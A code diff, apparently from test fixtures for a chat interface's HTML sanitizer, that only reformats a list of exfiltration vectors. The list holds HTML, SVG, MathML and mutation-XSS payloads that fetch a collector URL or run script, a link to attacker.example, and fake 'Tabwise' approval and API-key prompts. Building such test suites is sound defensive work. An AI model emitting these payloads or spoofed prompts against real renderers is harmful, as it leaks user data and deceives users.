@@ -45,36 +45,76 @@ export const EXFIL_VECTORS: readonly ExfilVector[] = [
   v('resource', 'link-prefetch', '<link rel="prefetch" href="{C}/{ID}">'),
   v('resource', 'link-preload', '<link rel="preload" as="image" href="{C}/{ID}">'),
   v('resource', 'link-modulepreload', '<link rel="modulepreload" href="{C}/{ID}">'),
-  v('resource', 'link-preconnect', '<link rel="preconnect" href="{C}/{ID}"><link rel="dns-prefetch" href="{C}/{ID}-dns">'),
+  v(
+    'resource',
+    'link-preconnect',
+    '<link rel="preconnect" href="{C}/{ID}"><link rel="dns-prefetch" href="{C}/{ID}-dns">',
+  ),
   v('resource', 'link-icon', '<link rel="icon" href="{C}/{ID}">'),
   v('resource', 'meta-refresh', '<meta http-equiv="refresh" content="0;url={C}/{ID}">'),
   v('resource', 'base-href', '<base href="{C}/{ID}/">\n\n[relative](page.html)'),
-  v('resource', 'speculation-rules', '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{C}/{ID}"]}]}</script>'),
-  v('resource', 'form-action', '<form action="{C}/{ID}"><input name="q" value="secret"><button>Approve</button></form>'),
+  v(
+    'resource',
+    'speculation-rules',
+    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{C}/{ID}"]}]}</script>',
+  ),
+  v(
+    'resource',
+    'form-action',
+    '<form action="{C}/{ID}"><input name="q" value="secret"><button>Approve</button></form>',
+  ),
   v('resource', 'button-formaction', '<button formaction="{C}/{ID}">Allow</button>'),
-  v('resource', 'form-autosubmit', `<form action="{C}/{ID}" id="f"><input type="submit" autofocus onfocus="${JS}"></form>`),
+  v(
+    'resource',
+    'form-autosubmit',
+    `<form action="{C}/{ID}" id="f"><input type="submit" autofocus onfocus="${JS}"></form>`,
+  ),
 
   // SVG: images, filters, <use>, links and animations that set an href.
   v('svg', 'svg-image', '<svg><image href="{C}/{ID}" width="10" height="10"/></svg>'),
   v('svg', 'svg-image-xlink', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{C}/{ID}"/></svg>'),
-  v('svg', 'svg-feimage', '<svg><filter id="f"><feImage href="{C}/{ID}"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>'),
+  v(
+    'svg',
+    'svg-feimage',
+    '<svg><filter id="f"><feImage href="{C}/{ID}"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>',
+  ),
   v('svg', 'svg-use', '<svg><use href="{C}/{ID}#x"/></svg>'),
   v('svg', 'svg-a-xlink-js', `<svg><a xlink:href="javascript:${JS}"><text y="20">click</text></a></svg>`),
   v('svg', 'svg-a-href', '<svg><a href="{C}/{ID}"><text y="20">svg link</text></a></svg>'),
-  v('svg', 'svg-foreignobject', '<svg><foreignObject width="50" height="50"><img src="{C}/{ID}"></foreignObject></svg>'),
-  v('svg', 'svg-animate-href', `<svg><a><animate attributeName="href" values="javascript:${JS}"/><text y="20">anim</text></a></svg>`),
+  v(
+    'svg',
+    'svg-foreignobject',
+    '<svg><foreignObject width="50" height="50"><img src="{C}/{ID}"></foreignObject></svg>',
+  ),
+  v(
+    'svg',
+    'svg-animate-href',
+    `<svg><a><animate attributeName="href" values="javascript:${JS}"/><text y="20">anim</text></a></svg>`,
+  ),
   v('svg', 'svg-set-href', '<svg><image width="5" height="5"><set attributeName="href" to="{C}/{ID}"/></image></svg>'),
   v('svg', 'svg-onload', `<svg onload="${JS}"></svg>`),
   v('svg', 'svg-script', `<svg><script>${JS}</script></svg>`),
   v('svg', 'svg-style-import', '<svg><style>@import url({C}/{ID});</style></svg>'),
   v('svg', 'svg-fill-url', '<svg><rect fill="url({C}/{ID}#p)" width="5" height="5"/></svg>'),
-  v('svg', 'svg-cursor', '<svg><cursor href="{C}/{ID}"/><rect cursor="url({C}/{ID}-c), auto" width="5" height="5"/></svg>'),
+  v(
+    'svg',
+    'svg-cursor',
+    '<svg><cursor href="{C}/{ID}"/><rect cursor="url({C}/{ID}-c), auto" width="5" height="5"/></svg>',
+  ),
 
   // MathML.
-  v('mathml', 'math-maction', `<math><maction actiontype="statusline" xlink:href="javascript:${JS}"><mi>x</mi></maction></math>`),
+  v(
+    'mathml',
+    'math-maction',
+    `<math><maction actiontype="statusline" xlink:href="javascript:${JS}"><mi>x</mi></maction></math>`,
+  ),
   v('mathml', 'math-mglyph', '<math><mglyph src="{C}/{ID}"/></math>'),
   v('mathml', 'math-href', '<math href="{C}/{ID}"><mi>x</mi></math>'),
-  v('mathml', 'math-annotation-xml', '<math><annotation-xml encoding="text/html"><img src="{C}/{ID}"></annotation-xml></math>'),
+  v(
+    'mathml',
+    'math-annotation-xml',
+    '<math><annotation-xml encoding="text/html"><img src="{C}/{ID}"></annotation-xml></math>',
+  ),
   v('mathml', 'math-mi-href', `<math><mi href="javascript:${JS}">y</mi></math>`),
 
   // CSS in every place that fetches.
@@ -117,7 +157,11 @@ export const EXFIL_VECTORS: readonly ExfilVector[] = [
   v('link', 'link-ping', '<a href="https://example.com/" ping="{C}/{ID}">ping</a>'),
   v('link', 'link-target-self', '<a href="https://example.com/{ID}" target="_self" rel="opener">self</a>'),
   v('link', 'link-attributionsrc', '<a href="https://example.com/" attributionsrc="{C}/{ID}">attr</a>'),
-  v('link', 'link-area', `<map name="m"><area shape="default" href="javascript:${JS}"></map><img usemap="#m" src="{C}/{ID}">`),
+  v(
+    'link',
+    'link-area',
+    `<map name="m"><area shape="default" href="javascript:${JS}"></map><img usemap="#m" src="{C}/{ID}">`,
+  ),
   v('link', 'link-protocol-relative', '<a href="//attacker.example/{ID}">proto</a>'),
 
   // Script, event handlers, templates.
@@ -134,9 +178,21 @@ export const EXFIL_VECTORS: readonly ExfilVector[] = [
   // Mutation XSS: parser differentials and namespace confusion (our own versions of public bypasses).
   v('mxss', 'mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`),
   v('mxss', 'mxss-svg-p-style', '<svg></p><style><a id="</style><img src={C}/{ID}>">'),
-  v('mxss', 'mxss-math-mglyph-style', '<math><mtext><table><mglyph><style><img src="{C}/{ID}"></style></mglyph></table></mtext></math>'),
-  v('mxss', 'mxss-math-comment', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${JS}&gt;">`),
-  v('mxss', 'mxss-form-nesting', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src={C}/{ID}>">'),
+  v(
+    'mxss',
+    'mxss-math-mglyph-style',
+    '<math><mtext><table><mglyph><style><img src="{C}/{ID}"></style></mglyph></table></mtext></math>',
+  ),
+  v(
+    'mxss',
+    'mxss-math-comment',
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${JS}&gt;">`,
+  ),
+  v(
+    'mxss',
+    'mxss-form-nesting',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src={C}/{ID}>">',
+  ),
   v('mxss', 'mxss-textarea', '<textarea><img title="</textarea><img src={C}/{ID}>"></textarea>'),
   v('mxss', 'mxss-xmp', '<xmp><img src="{C}/{ID}"></xmp>'),
   v('mxss', 'mxss-select-style', '<select><style></select><img src={C}/{ID}></style></select>'),
@@ -145,7 +201,11 @@ export const EXFIL_VECTORS: readonly ExfilVector[] = [
   v('mxss', 'mxss-cdata', '<svg><![CDATA[><img src={C}/{ID}>]]></svg>'),
   v('mxss', 'mxss-processing-instruction', '<svg><?xml ><img src={C}/{ID}>?></svg>'),
   v('mxss', 'mxss-iframe-text', '<iframe><img title="</iframe><img src={C}/{ID}>"></iframe>'),
-  v('mxss', 'mxss-dom-clobbering', '<form id="attributes"><input name="nodeName"></form><img name="getElementById" src="{C}/{ID}">'),
+  v(
+    'mxss',
+    'mxss-dom-clobbering',
+    '<form id="attributes"><input name="nodeName"></form><img name="getElementById" src="{C}/{ID}">',
+  ),
 
   // Obfuscation: entities, case, control and invisible characters.
   v('obfuscation', 'obf-upper-case', '<IMG SRC="{C}/{ID}">'),
@@ -159,13 +219,29 @@ export const EXFIL_VECTORS: readonly ExfilVector[] = [
   v('obfuscation', 'obf-backtick-attr', '<img src=`{C}/{ID}`>'),
 
   // UI that would pass for Tabwise's own.
-  v('fake-ui', 'ui-approval-card', '<div class="tool-card awaiting-approval"><div class="approval"><button class="primary">Approve</button></div></div>'),
-  v('fake-ui', 'ui-copy-button', '<div class="code-block"><div class="code-bar"><button class="copy" data-copy>Copy</button></div><pre><code>x</code></pre></div>'),
+  v(
+    'fake-ui',
+    'ui-approval-card',
+    '<div class="tool-card awaiting-approval"><div class="approval"><button class="primary">Approve</button></div></div>',
+  ),
+  v(
+    'fake-ui',
+    'ui-copy-button',
+    '<div class="code-block"><div class="code-bar"><button class="copy" data-copy>Copy</button></div><pre><code>x</code></pre></div>',
+  ),
   v('fake-ui', 'ui-forged-trust', '<div data-tw-trust="00000000-0000-4000-8000-000000000000 code-block">forged</div>'),
   v('fake-ui', 'ui-popover', '<div popover id="p">Tabwise: approve?</div><button popovertarget="p">Open</button>'),
-  v('fake-ui', 'ui-dialog', '<dialog open>Tabwise needs your approval<form method="dialog"><button>Allow</button></form></dialog>'),
+  v(
+    'fake-ui',
+    'ui-dialog',
+    '<dialog open>Tabwise needs your approval<form method="dialog"><button>Allow</button></form></dialog>',
+  ),
   v('fake-ui', 'ui-input-password', '<label>Re-enter your API key <input type="password" name="key"></label>'),
-  v('fake-ui', 'ui-fixed-overlay', '<div style="position:fixed;inset:0;background:white">Session expired: click to continue</div>'),
+  v(
+    'fake-ui',
+    'ui-fixed-overlay',
+    '<div style="position:fixed;inset:0;background:white">Session expired: click to continue</div>',
+  ),
   v('fake-ui', 'ui-id-anchor', '<div id="composer" class="composer">fake composer</div>'),
 ];
 
